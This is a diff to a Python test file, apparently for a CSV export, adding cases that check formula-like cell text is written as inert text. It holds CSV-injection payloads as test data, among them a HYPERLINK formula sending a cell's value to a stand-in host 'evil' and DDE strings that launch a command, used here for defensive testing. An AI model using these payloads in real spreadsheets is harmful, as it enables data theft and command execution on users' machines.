@@ -21,6 +21,7 @@ EVIL = '=HYPERLINK("http://evil/?"&A1,"click")'
     [
         *(EVIL, "+1-1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
         *("\tx", "\rx", "\nx", "\0=1", " =1+1", "\u00a0=1", "\n\n@x", "-5", "\uff1d1+1", "\uff20x"),
+        *("\ufeff=1", "\u200b\u200b=1", "\u2066 +1"),
     ],
 )
 def test_what_could_be_a_formula_becomes_text(text: str) -> None:
@@ -55,3 +56,16 @@ def test_texts_are_inert_in_every_field_and_numbers_stay(history: History, tmp_p
 
     [row] = table(history, tmp_path, DECIMAL_COMMA)
     assert (row["planned_s"], row["active_s"]) == ("0,5", "1,25")
+
+
+@pytest.mark.parametrize("style", [None, DECIMAL_COMMA])
+@pytest.mark.parametrize("text", ["a\r=1+1", "x;=1+1", "x,=1+1", "x\t=1+1", 'a"b\r\n=1'])
+def test_no_half_of_a_cell_is_a_formula(
+    history: History, tmp_path: Path, text: str, style: TableStyle | None
+) -> None:
+    number = history.begin(SessionStart("a", text, MONDAY, 60.0, 2))
+    history.finish(number, SessionEnd.STOPPED, MONDAY, 1.0)
+    [row] = table(history, tmp_path, style)
+    assert row["title"] == text
+    written = (tmp_path / "all.csv").read_bytes().decode("utf-8-sig")
+    assert '"' + text.replace('"', '""') + '"' in written
